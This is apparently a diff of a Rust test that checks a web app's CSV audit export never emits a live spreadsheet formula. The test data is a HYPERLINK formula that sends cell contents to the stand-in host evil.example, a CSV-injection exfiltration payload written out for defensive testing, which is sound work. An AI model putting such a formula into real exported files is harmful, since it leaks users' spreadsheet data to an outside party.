@@ -349,8 +349,16 @@ async fn writes_are_judged_against_the_public_url_not_the_host() {
 async fn the_csv_export_never_carries_a_live_formula() {
     let app = spawn_app().await;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
-    let entry =
-        app::ssr::ports::AuditRecord::system(1_795_000_000_000, "note", None, Some(formula.into()));
+    // An action Signoff does not write: the filter below finds only this.
+    let entry = app::ssr::ports::AuditRecord {
+        action: "note".into(),
+        ..app::ssr::ports::AuditRecord::system(
+            1_795_000_000_000,
+            app::domain::audit_action::Action::Received,
+            None,
+            Some(formula.into()),
+        )
+    };
     app.store().record(&entry).await.unwrap();
     app.sign_in_as(LEE).await;
     let csv = get(&app, "/audit/export.csv?action=note").await;
